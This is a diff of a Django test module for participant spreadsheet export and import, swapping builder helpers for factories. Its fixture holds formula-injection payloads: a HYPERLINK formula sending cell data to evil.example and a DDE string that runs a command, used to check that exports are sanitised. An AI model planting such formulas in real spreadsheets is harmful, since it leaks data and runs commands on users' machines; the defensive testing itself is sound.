@@ -8,7 +8,8 @@ import pytest
 from django.urls import reverse
 
 from participants.models import Participant
-from tests.desk.builders import clean_visit, organiser
+from tests.factories import OrganiserFactory, ParticipantFactory
+from tests.scenarios import paris_rouen_programme
 
 pytestmark = pytest.mark.django_db
 
@@ -19,8 +20,9 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Programme")'
 
 @pytest.fixture
 def visit():
-    visit = clean_visit()
-    Participant.objects.create(
+    visit = paris_rouen_programme()
+    ParticipantFactory(
+        bare=True,
         visit=visit,
         name_latin=HYPERLINK,
         name_native="@SUM(1+1)*cmd|' /C calc'!A0",
@@ -34,7 +36,7 @@ def visit():
 
 
 def exported(client, visit, file_format: str) -> bytes:
-    client.force_login(organiser("anna", visit.organiser))
+    client.force_login(OrganiserFactory(username="anna", organisation=visit.organiser))
     page = client.get(reverse(EXPORT_URL))
     form = page.context["form"]
     data = {name: "on" for name in form.fields if name.startswith("participantresource_")}
@@ -78,7 +80,7 @@ def test_an_exported_sheet_imports_again_as_it_was_typed(visit):
     from participants.imports import ParticipantResource
 
     dataset = ParticipantResource(visit=visit).export(queryset=Participant.objects.all())
-    other = clean_visit(slug="paris-2020")
+    other = paris_rouen_programme(slug="paris-2020")
     resource = ParticipantResource(visit=other)
 
     result = resource.import_data(dataset, dry_run=False, raise_errors=True)
